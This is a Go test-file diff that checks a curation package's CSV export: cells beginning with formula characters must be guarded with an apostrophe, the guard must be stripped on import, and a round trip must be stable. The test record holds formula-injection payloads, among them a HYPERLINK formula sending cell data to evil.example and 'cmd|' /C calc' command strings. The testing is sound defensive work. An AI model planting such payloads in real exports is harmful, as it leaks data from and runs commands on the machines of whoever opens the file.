@@ -3,8 +3,11 @@ package curation
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
+	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -32,6 +35,18 @@ func csvArchive(t *testing.T) *archive.Archive {
 	return a
 }
 
+// formulaRecord's values start with what a spreadsheet runs as a formula,
+// with the apostrophe that guards them, or are the clearValue text.
+func formulaRecord() *archive.Record {
+	r := testRecord(idOf(4))
+	r.Title = map[string]string{"vi": `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")`, "en": "+cmd|' /C calc'!A0", "zh": "'quoted' title"}
+	r.Description = map[string]string{"vi": "@SUM(1+1)*cmd|' /C calc'!A0", "en": "-2+3"}
+	r.Keywords = []string{"-minus", "=eq", "'apostrophe"}
+	r.Creator, r.Credit, r.Rights, r.Agency = "''two apostrophes", "-", "=1+1", "@agency"
+	r.Status, r.Visibility = archive.Review, archive.Internal
+	return r
+}
+
 func exportCSV(t *testing.T, a *archive.Archive) []byte {
 	t.Helper()
 	var b bytes.Buffer
@@ -43,10 +58,35 @@ func exportCSV(t *testing.T, a *archive.Archive) []byte {
 
 func TestCSVRoundTripIsStable(t *testing.T) {
 	a := csvArchive(t)
+	if _, err := a.Store().Put(formulaRecord()); err != nil {
+		t.Fatal(err)
+	}
 	first := exportCSV(t, a)
 	if !bytes.HasPrefix(first, []byte("\xef\xbb\xbfid,file,title_vi,")) || !bytes.Contains(first, []byte("\r\n")) ||
-		bytes.Count(first, []byte("\r\n")) != 5 { // header + 3 records, one holding a line break
+		bytes.Count(first, []byte("\r\n")) != 6 { // header + 4 records, one holding a line break
 		t.Fatalf("export:\n%q", first)
+	}
+	// No cell starts with what a spreadsheet runs; the guard is there.
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(first, []byte("\xef\xbb\xbf")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var guarded []string
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+			if strings.HasPrefix(cell, "'") {
+				guarded = append(guarded, cell)
+			}
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")`, "'+cmd|' /C calc'!A0", "''quoted' title",
+		"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'-minus; =eq; 'apostrophe", "'''two apostrophes", "'-", "'=1+1", "'@agency"} {
+		if !slices.Contains(guarded, want) {
+			t.Errorf("no cell %q among the guarded %q", want, guarded)
+		}
 	}
 	seq0, _ := a.Store().LastSeq()
 	for _, dry := range []bool{true, false} {
@@ -55,7 +95,7 @@ func TestCSVRoundTripIsStable(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if rep.Changed != 0 || rep.Failed != 0 || rep.Unchanged != 3 {
+			if rep.Changed != 0 || rep.Failed != 0 || rep.Unchanged != 4 {
 				t.Errorf("dry=%v: unedited import changed something: %+v", dry, rep)
 			}
 		})
@@ -65,6 +105,42 @@ func TestCSVRoundTripIsStable(t *testing.T) {
 	}
 	if second := exportCSV(t, a); !bytes.Equal(first, second) {
 		t.Errorf("second export differs:\n%q\n%q", first, second)
+	}
+	if got, _ := a.Store().Get(idOf(4)); !reflect.DeepEqual(got.Title, formulaRecord().Title) || got.Credit != "-" || got.Creator != "''two apostrophes" {
+		t.Errorf("formula record after the round trip: %+v", got)
+	}
+}
+
+// TestImportGuardedCells: the apostrophe guard is removed on import; a bare
+// "-" clears, a guarded "'-" is the text "-".
+func TestImportGuardedCells(t *testing.T) {
+	id := idOf(1)
+	tests := []struct {
+		name, credit, want string
+	}{
+		{"guarded formula", "'=1+1", "=1+1"},
+		{"guarded apostrophe", "''quoted", "'quoted"},
+		{"guarded dash is text", "'-", "-"},
+		{"bare dash clears", "-", ""},
+		{"unguarded text", "Sở VHTTDL", "Sở VHTTDL"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a, _, _ := editArchive(t)
+			if _, _, err := New(a).Edit(context.Background(), id, Edit{Credit: ptr("Old credit")}, apiActor); err != nil {
+				t.Fatal(err)
+			}
+			var b bytes.Buffer
+			w := csv.NewWriter(&b)
+			w.WriteAll([][]string{{"id", "credit"}, {id, tt.credit}})
+			rep, err := New(a).ImportMetadata(context.Background(), "edits.csv", &b, ImportOptions{Who: "tester"})
+			if err != nil || rep.Failed != 0 {
+				t.Fatalf("%+v %v", rep, err)
+			}
+			if r, _ := a.Store().Get(id); r.Credit != tt.want {
+				t.Errorf("credit %q, want %q", r.Credit, tt.want)
+			}
+		})
 	}
 }
 
